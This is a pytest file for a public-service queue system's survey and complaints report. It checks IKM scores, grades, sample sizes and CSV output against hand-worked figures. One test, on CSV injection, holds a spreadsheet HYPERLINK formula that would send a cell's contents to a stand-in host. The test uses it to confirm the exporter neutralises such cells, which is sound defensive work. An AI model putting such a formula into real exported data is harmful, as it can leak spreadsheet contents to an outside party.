"""`antre report --skm` on a real store against a period worked out by hand (docs/reports.md).

The period is Monday 23 and Tuesday 24 November 2026 at the demo building (WIB). Visits
finished: Dukcapil A-001, A-002, A-003 at Loket 1 (officer DKP01) on Monday; Samsat E-001,
E-002 at Loket 8 (SMS01) on Tuesday. A-004 was a no-show (not a finished visit).

    answer  visit    wait      channel          scores (U1..U9)       answered on
    a1      A-001    5 min     phone            4 4 4 4 4 4 4 4 4     Mon 23
    a2      A-002    20 min    tablet:TAB-L01   3 3 3 4 3 3 3 3 3     Mon 23
    a3      E-001    70 min    exit:EXIT-1      2 2 1 4 2 2 2 2 2     Fri 27 (after the period)
    --      A-009 of Fri 20 Nov, answered Mon 23: a visit before the period, not counted
    --      A-001 of Wed 25 Nov, answered Wed 25: a visit after the period, not counted

By hand: the building's sums are U1 9, U2 9, U3 8, U4 12, U5–U9 9 each: 83 over 3
respondents: IKM = 83 / 3 / 9 × 25 = 76.85 (B, Baik). Dukcapil: 64 / 2 / 9 × 25 = 88.89 (A,
Sangat Baik). Samsat: 19 / 9 × 25 = 52.78 (D, Tidak Baik). Krejcie–Morgan of 5 finished visits:
3.841·5·0.25 / (0.0025·4 + 3.841·0.25) = 4.95 → 5, short by 2; of 3 → 2.98 → 3; of 2 → 1.99 → 2.
By wait: < 15 min a1 alone (100.00, A); 15–60 a2 (28 / 9 × 25 = 77.78, B); > 60 a3 (52.78, D).

Complaints: ADU-261123-001 (Monday, about A-001, by phone) taken Tuesday, answered Monday 30th,
closed by the system on 10 December; ADU-261124-001 (Tuesday, at the desk, no ticket) still
received. ADU-261125-001 (filed after the period) and the later step of ADU-261120-001 (filed
before) are not in the file.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from skm_period import NOW, rows_by, the_period, write_store

from server.config import load_demo_building
from server.core.building import Device, DeviceKind
from server.report.cli import report_main
from server.report.skm_report import write_skm_report
from server.report.skm_stats import finished_visits, read_answers
from server.report.skm_tables import (
    CHANNEL_COLUMNS,
    COMPLAINT_COLUMNS,
    SKM_COLUMNS,
    WAIT_COLUMNS,
)
from server.report.stats import replay_tickets
from server.store import StoreReader

DOCS = Path(__file__).resolve().parents[2] / "docs" / "reports.md"


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The store written and `antre report --skm` run on it; the output folder."""
    import asyncio

    tmp = tmp_path_factory.mktemp("skm")
    db = tmp / "antre.db"
    asyncio.run(write_store(db, the_period()))
    out = tmp / "out"
    argv = ["--from", "2026-11-23", "--to", "2026-11-24", "--db", str(db), "--out", str(out)]
    assert report_main([*argv, "--skm", "--quiet"], now=NOW) == 0
    officers = tmp / "officers"
    argv[-1] = str(officers)
    assert report_main([*argv, "--skm", "--officers", "--quiet"], now=NOW) == 0
    return tmp


def test_skm_csv_ikm_grade_sample(report: Path) -> None:
    """skm.csv: the hand-worked IKM, grades, respondents, population and Krejcie–Morgan sample."""
    rows = rows_by(report / "out" / "skm.csv", "scope", "key")
    assert list(next(iter(rows.values()))) == list(SKM_COLUMNS)
    building = rows["building", ""]
    assert building["name"] == "MPP Kota Contoh"
    assert (building["from"], building["to"]) == ("2026-11-23", "2026-11-24")
    assert (building["respondents"], building["finished_visits"]) == ("3", "5")
    assert (building["required_sample"], building["shortfall"]) == ("5", "2")
    assert building["response_rate_pct"] == "60.0"
    assert (building["ikm"], building["grade"], building["grade_words"]) == ("76.85", "B", "Baik")
    assert building["nrr_u3"] == "2.6667" and building["nrr_u4"] == "4.0"
    dukcapil, samsat = rows["agency", "DUKCAPIL"], rows["agency", "SAMSAT"]
    assert (dukcapil["ikm"], dukcapil["grade"], dukcapil["grade_words"]) == (
        "88.89",
        "A",
        "Sangat Baik",
    )
    assert (dukcapil["finished_visits"], dukcapil["required_sample"]) == ("3", "3")
    assert (dukcapil["shortfall"], dukcapil["response_rate_pct"]) == ("1", "66.7")
    assert (samsat["ikm"], samsat["grade"], samsat["grade_words"]) == ("52.78", "D", "Tidak Baik")
    assert (samsat["respondents"], samsat["required_sample"], samsat["shortfall"]) == (
        "1",
        "2",
        "1",
    )
    assert samsat["nrr_u3"] == "1.0"
    assert rows["line", "A"]["ikm"] == "88.89" and rows["line", "A"]["agency"] == "DUKCAPIL"
    assert rows["counter", "L08"]["name"] == "Loket 8" and rows["counter", "L08"]["ikm"] == "52.78"
    assert not any(scope == "officer" for scope, _ in rows)


def test_officer_rows_only_when_asked(report: Path) -> None:
    """--officers adds a row per officer (managers only); the complaint names its officer."""
    rows = rows_by(report / "officers" / "skm.csv", "scope", "key")
    assert rows["officer", "DKP01"]["name"] == "Siti Rahmawati"
    assert (rows["officer", "DKP01"]["respondents"], rows["officer", "DKP01"]["ikm"]) == (
        "2",
        "88.89",
    )
    with_officer = rows_by(report / "officers" / "complaints.csv", "id")
    assert with_officer["ADU-261123-001",]["officer"] == "DKP01"
    plain = rows_by(report / "out" / "complaints.csv", "id")
    assert plain["ADU-261123-001",]["officer"] == ""


def test_waits_by_band(report: Path) -> None:
    """skm_waits.csv: each answer's band from its ticket's waiting periods (5, 20, 70 min)."""
    rows = rows_by(report / "out" / "skm_waits.csv", "scope", "key", "wait_band")
    assert list(next(iter(rows.values()))) == list(WAIT_COLUMNS)
    b = {band: rows["building", "", band] for band in ("< 15 menit", "15–60 menit", "> 60 menit")}
    assert [(r["respondents"], r["ikm"], r["grade"]) for r in b.values()] == [
        ("1", "100.0", "A"),
        ("1", "77.78", "B"),
        ("1", "52.78", "D"),
    ]
    samsat_short = rows["agency", "SAMSAT", "< 15 menit"]
    assert (samsat_short["respondents"], samsat_short["ikm"]) == ("0", "")


def test_channels(report: Path) -> None:
    """skm_channels.csv: one answer per channel, a rate over the 5 finished visits; devices."""
    rows = rows_by(report / "out" / "skm_channels.csv", "scope", "key", "channel")
    assert list(next(iter(rows.values()))) == list(CHANNEL_COLUMNS)
    for channel in ("phone", "tablet", "exit"):
        r = rows["building", "", channel]
        assert (r["responses"], r["share_pct"], r["response_rate_pct"]) == ("1", "33.3", "20.0")
    assert rows["building", "", "all"]["response_rate_pct"] == "60.0"
    assert rows["agency", "DUKCAPIL", "all"]["finished_visits"] == "3"
    assert rows["device", "TAB-L01", "tablet"]["responses"] == "1"
    assert rows["device", "EXIT-1", "exit"]["finished_visits"] == "5"


async def test_tablet_rate_over_its_counter(tmp_path: Path) -> None:
    """A tablet's response rate is over its own counter's finished visits (Loket 1: 4 of the
    building's 6 finished visits when A-009 of the 20th is in the range too: 20–24 Nov)."""
    building = load_demo_building()
    tablet = Device("TAB-L01", DeviceKind.TABLET, None, "0" * 64, counter="L01")
    building = replace(building, devices=(*building.devices, tablet))
    db = tmp_path / "antre.db"
    await write_store(db, the_period())
    visits = {}
    with StoreReader.open(db) as store:
        for day in store.service_days(date(2026, 11, 20), date(2026, 11, 24)):
            visits |= finished_visits(replay_tickets(store.day_log(day)))
        first, last = date(2026, 11, 20), date(2026, 11, 24)
        write_skm_report(store, building, first, last, visits, tmp_path, now=NOW)
    rows = rows_by(tmp_path / "skm_channels.csv", "scope", "key", "channel")
    tab = rows["device", "TAB-L01", "tablet"]
    assert (tab["counter"], tab["name"], tab["finished_visits"]) == ("L01", "Loket 1", "4")
    assert tab["response_rate_pct"] == "25.0"
    assert rows_by(tmp_path / "skm.csv", "scope", "key")["building", ""]["respondents"] == "4"


def test_answers_are_filed_under_the_visit_day() -> None:
    """An answer belongs to its visit's day, whenever given: of the whole log, the 23–24
    November answers are A-001, A-002 (given the same day) and E-001 (given on the 27th)."""
    answers = read_answers(the_period(), date(2026, 11, 23), date(2026, 11, 24))
    assert [a.ticket for a in answers] == [
        "2026-11-23/A-001",
        "2026-11-23/A-002",
        "2026-11-24/E-001",
    ]


def test_complaints_csv(report: Path) -> None:
    """complaints.csv: the period's complaints, each step and deadline; none before or after."""
    rows = rows_by(report / "out" / "complaints.csv", "id")
    assert [k for (k,) in rows] == ["ADU-261123-001", "ADU-261124-001"]
    first = rows["ADU-261123-001",]
    assert list(first) == list(COMPLAINT_COLUMNS)
    assert first["classification"] == "Pengaduan"
    assert first["title"] == "Waktu tunggu dan pelayanan — Perekaman dan Cetak KTP-el"
    assert first["text"] == "Petugas <b>tidak</b> ada di loket."
    assert (first["event_date"], first["location"]) == ("2026-11-23", "MPP Kota Contoh, Loket 1")
    assert first["agency_name"] == "Dinas Kependudukan dan Pencatatan Sipil"
    assert (first["ticket_number"], first["channel"]) == ("A-001", "phone")
    assert (first["state"], first["state_label"]) == ("closed", "Selesai")
    assert first["received_at"] == "2026-11-23T10:00:00+07:00"
    assert first["taken_at"] == "2026-11-24T12:00:00+07:00" and first["taken_on_time"] == "ya"
    assert first["answered_at"] == "2026-11-30T14:00:00+07:00" and first["answered_on_time"] == "ya"
    assert first["answer"] == "Loket 1 kini dijaga dua petugas."
    assert (first["closed_by"], first["notes"]) == ("system", "diproses: Dicek ke loket")
    desk = rows["ADU-261124-001",]
    assert (desk["state"], desk["state_label"], desk["channel"]) == ("received", "Diterima", "desk")
    assert (desk["ticket_number"], desk["event_date"], desk["title"]) == (
        "",
        "2026-11-24",
        "Lainnya",
    )
    assert desk["taken_on_time"] == "" and desk["location"] == "MPP Kota Contoh"


def test_columns_documented() -> None:
    """Every column of the SKM files and complaints.csv is described in docs/reports.md."""
    text = DOCS.read_text(encoding="utf-8")
    for column in {*SKM_COLUMNS, *WAIT_COLUMNS, *CHANNEL_COLUMNS, *COMPLAINT_COLUMNS}:
        assert f"`{column}`" in text, column


def test_skm_needs_out(report: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--skm without --out is a usage error (exit 2) that writes nothing."""
    with pytest.raises(SystemExit) as exc:
        report_main(["--skm", "--db", str(report / "antre.db")])
    assert exc.value.code == 2
    assert "--skm needs --out" in capsys.readouterr().err


async def test_store_voice_log_reads_after_the_period(tmp_path: Path) -> None:
    """The store's voice_log: answers by visit day, complaints filed in the range with every
    later step; nothing of visits or complaints outside it."""
    db = tmp_path / "antre.db"
    await write_store(db, the_period())
    with StoreReader.open(db) as store:
        log = store.voice_log(date(2026, 11, 23), date(2026, 11, 24))
    seen = [(e.event["kind"], e.event.get("complaint") or e.event.get("ticket")) for e in log]
    assert seen == [
        ("survey_answered", "2026-11-23/A-001"),
        ("survey_answered", "2026-11-23/A-002"),
        ("complaint_filed", "ADU-261123-001"),
        ("complaint_filed", "ADU-261124-001"),
        ("complaint_taken", "ADU-261123-001"),
        ("survey_answered", "2026-11-24/E-001"),
        ("complaint_answered", "ADU-261123-001"),
        ("complaint_closed", "ADU-261123-001"),
    ]


def test_terminal_says_the_ikm(report: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Without --quiet the terminal ends with the building's IKM, grade, sample, complaints."""
    out = report / "terminal"
    argv = ["--from", "2026-11-23", "--to", "2026-11-24", "--db", str(report / "antre.db")]
    assert report_main([*argv, "--out", str(out), "--skm"], now=NOW) == 0
    text = capsys.readouterr().out
    assert "IKM 76,85 (B — Baik)" in text
    assert "3 responden dari 5 kunjungan selesai; sampel minimum 5" in text
    assert "2 pengaduan diterima pada periode ini" in text
    assert "masih dapat diisi" not in text  # NOW is long after the survey of the 24th closed


async def test_complaints_csv_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    """complaints.csv is opened in a spreadsheet on the office PC (SP4N-LAPOR! operators). A
    citizen's text, a manager's answer or note that begins with =, +, - or @ would be computed
    there as a formula (OWASP "CSV injection": a HYPERLINK that sends the sheet away). Such a
    cell is written with a leading apostrophe, which the spreadsheet shows as the text typed."""
    from skm_period import Log, at, complaint

    log = Log()
    typed = '=HYPERLINK("http://contoh.invalid/?"&A1;"Klik")'
    complaint(
        log,
        at(23, "10:00"),
        "ADU-261123-001",
        None,
        "desk:M01",
        text=typed,
        take_by=at(26, "23:59"),
    )
    log.ev(
        "manager:M01",
        "complaint_taken",
        at(23, "10:05"),
        complaint="ADU-261123-001",
        by="M01",
        note="@Budi cek",
        answer_by=at(30, "23:59"),
    )
    log.ev(
        "manager:M01",
        "complaint_answered",
        at(23, "11:00"),
        complaint="ADU-261123-001",
        by="M01",
        answer="+62 812 3456 7890 menghubungi Anda.",
        closes_at=at(30, "11:00"),
    )
    complaint(
        log,
        at(23, "12:00"),
        "ADU-261123-002",
        None,
        "desk:M01",
        text="Antrean lama - tolong ditambah loket.",
        take_by=at(26, "23:59"),
    )
    db, out = tmp_path / "antre.db", tmp_path / "out"
    await write_store(db, log.entries())
    argv = ["--day", "2026-11-23", "--db", str(db), "--out", str(out), "--skm", "--quiet"]
    assert report_main(argv, now=NOW) == 0
    rows = rows_by(out / "complaints.csv", "id")
    first = rows["ADU-261123-001",]
    assert first["text"] == "'" + typed
    assert first["answer"] == "'+62 812 3456 7890 menghubungi Anda."
    assert first["notes"] == "diproses: @Budi cek"  # begins with "diproses": no formula
    # A text that only holds such a character further on is written as typed.
    assert rows["ADU-261123-002",]["text"] == "Antrean lama - tolong ditambah loket."


async def test_the_printed_nrr_is_rounded_half_up_as_the_floor_and_the_ikm_are(
    tmp_path: Path,
) -> None:
    """Eight respondents whose U1 scores add up to 21: NRR = 21 ÷ 8 = 2.625 exactly, which two
    decimals rounded half up (docs/survey.md, "The rounding rule") write as 2,63 — as the
    floor writes the same NRR. A float format's half-to-even would print 2,62."""
    from skm_period import Log, at

    log = Log()
    log.login(23, "L01", "DKP01")
    for i, u1 in enumerate((3, 3, 3, 3, 3, 2, 2, 2), start=1):
        number = f"A-{i:03d}"
        log.visit(23, number, "L01", "DKP01", f"08:{i:02d} 08:{10 + i:02d} 08:{20 + i:02d}")
        log.answer(at(23, "09:00"), f"2026-11-23/{number}", "phone", f"{u1} 3 3 3 3 3 3 3 3")
    db, out = tmp_path / "antre.db", tmp_path / "out"
    await write_store(db, log.entries())
    argv = ["--day", "2026-11-23", "--db", str(db), "--out", str(out), "--skm", "--quiet"]
    assert report_main(argv, now=NOW) == 0
    page = (out / "skm.html").read_text(encoding="utf-8")
    row = page[page.index("<td>U1</td>") :]
    row = row[: row.index("</tr>")]
    assert '<td class="n">21</td><td class="n">2,63</td>' in row
